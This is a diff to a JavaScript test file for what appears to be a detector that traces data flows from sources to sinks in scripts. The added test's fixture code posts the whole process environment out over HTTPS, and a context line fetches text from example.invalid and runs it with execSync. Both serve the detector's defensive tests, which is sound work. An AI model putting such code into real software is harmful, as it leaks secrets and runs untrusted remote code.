@@ -53,6 +53,16 @@ test("five thousand decoys before a chain hide neither its deeds nor its flow", 
   assert.equal(deedsOf(file, "upload").length, 1);
 });
 
+test("a call that is a statement of its own declares no function of that name, so that what it is given is followed", () => {
+  const file = script(
+    "const https = require('https');\nfunction all() { return JSON.stringify(process.env); }\n" +
+      "function send(body) { const r = https.request({ method: 'POST' }); r.write(body); r.end(); }\nsend(all());\n",
+  );
+  const [flow] = flowsBetween(file, ["environment"], ["upload"]);
+  assert.equal(flow?.sink.what, "https.request().write");
+  assert.equal(flow?.sink.phase, file.phase);
+});
+
 test("a module that is imported at the top of a bundle is known at its end", () => {
   const text = `import { execSync as e } from "node:child_process";\n${bundle(1_500)}\n`;
   const file = script(`${text}fetch("https://example.invalid/a").then((r) => r.text()).then((t) => e(t));\n`);
